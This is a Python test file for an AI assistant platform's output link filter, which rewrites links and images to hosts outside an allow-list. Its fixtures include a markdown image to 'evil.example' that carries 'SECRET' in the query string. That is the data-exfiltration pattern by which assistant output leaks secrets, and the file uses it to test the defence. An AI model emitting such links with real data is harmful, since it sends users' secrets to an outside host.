"""Links and images to foreign hosts in answers, streamed and whole."""

import time
from collections.abc import Sequence

import pytest
from heddle.assistant.v1 import assistant_pb2
from heddle.connector.v1 import connector_pb2
from heddle.orchestrator.v1 import orchestrator_pb2 as pb
from heddle_orchestrator.output.events import output_filter
from heddle_orchestrator.output.link_filter import LinkFilter
from orchestrator.harness import Harness, ask, assistant, done, function, kinds, text, tool

ANSWER = "See ![chart](https://evil.example/?q=SECRET) and [x](https://good.example/x)."
FILTERED = "See ![chart] (evil[.]example) and [x](https://good.example/x)."


def limited(*tools: assistant_pb2.ToolBinding) -> assistant_pb2.Assistant:
    """Return an assistant whose answers may link to one host."""
    limited_assistant = assistant(*tools)
    limited_assistant.output_hosts = "good.example"
    return limited_assistant


def answer_of(events: Sequence[pb.RunEvent], name: str = "text_delta") -> str:
    """Return the text of an answer."""
    return "".join(getattr(each, name) for each in events if each.HasField(name))  # type: ignore[arg-type] # a field


def pieces(words: str) -> list[list[connector_pb2.GenerationEvent]]:
    """Return a text as a model that streams single characters sends it."""
    return [*([text(each)] for each in words), [done()]]


@pytest.mark.parametrize("tools", [(), (function("look"),), (tool("a", text="A"),)])
async def test_answers_have_no_link_to_another_host(
    harness: Harness, tools: Sequence[assistant_pb2.ToolBinding]
) -> None:
    harness.connector.batches = pieces(ANSWER)
    streamed = await harness.events(ask(limited(*tools)))
    whole = await harness.whole(ask(limited(*tools)))
    assert (answer_of(streamed), answer_of(whole)) == (FILTERED, FILTERED)
    assert (kinds(streamed)[-1], kinds(whole)[-1]) == ("done", "done")


async def test_text_that_is_held_back_comes_before_the_end(harness: Harness) -> None:
    harness.connector.batches = pieces("an array a[0]")
    assert answer_of(await harness.events(ask(limited()))) == "an array a[0]"
    reasoning = connector_pb2.GenerationEvent(reasoning_delta=ANSWER)
    harness.connector.batches = [[reasoning], [text("x]"), done()]]
    events = await harness.events(ask(limited()))
    assert answer_of(events, "reasoning_delta") == FILTERED
    assert answer_of(events) == "x]"
    assert kinds(events)[-1] == "done"


async def test_sources_and_progress_have_no_link_to_another_host(harness: Harness) -> None:
    harness.connector.batches = [[text("Hello"), done()]]
    statuses = ["read https://evil.example/SECRET"]
    reader = limited(tool("a", "context", text="A", sources=["page"], statuses=statuses))
    reader.prompt_template = "{context}{user_input}"
    events = await harness.events(ask(reader))
    [sources] = [each.sources for each in events if each.HasField("sources")]
    assert [(each.title, each.uri) for each in sources.sources] == [("page", "")]
    assert "SECRET" not in str(events)


async def test_without_a_list_answers_stay_as_they_are(harness: Harness) -> None:
    harness.connector.batches = pieces(ANSWER)
    assert answer_of(await harness.events(ask(assistant()))) == ANSWER
    assert answer_of(await harness.whole(ask(assistant()))) == ANSWER


async def test_titles_link_where_the_assistant_may_that_pays_for_them(harness: Harness) -> None:
    harness.connector.batches = pieces(ANSWER)
    harness.assistants.output_hosts = "good.example"
    request = ask(assistant())
    request.charged_to = "1"
    assert answer_of(await harness.events(request)) == FILTERED
    assert answer_of(await harness.whole(request)) == FILTERED


async def test_the_list_of_the_organisation_applies_to_its_assistants(harness: Harness) -> None:
    harness.connector.batches = pieces(ANSWER)
    harness.assistants.output_hosts = "good.example"
    assert answer_of(await harness.events(ask("1"))) == FILTERED


@pytest.mark.parametrize("before", ["`", "```a", "```\n", "```a\n~"])
def test_a_long_run_of_marks_is_filtered_alike_in_pieces_and_in_linear_time(before: str) -> None:
    output = output_filter("good.example")
    assert output is not None
    words = f"{before}{'`' * 20_000}\n{ANSWER}"
    whole, piecewise = LinkFilter(output._policy), LinkFilter(output._policy)  # noqa: SLF001 - the filter of one text
    begun = time.thread_time()
    parts = [piecewise.feed(words[start : start + 7]) for start in range(0, len(words), 7)]
    seconds = time.thread_time() - begun
    assert "".join(parts) + piecewise.finish() == whole.feed(words) + whole.finish()
    assert seconds < 0.5
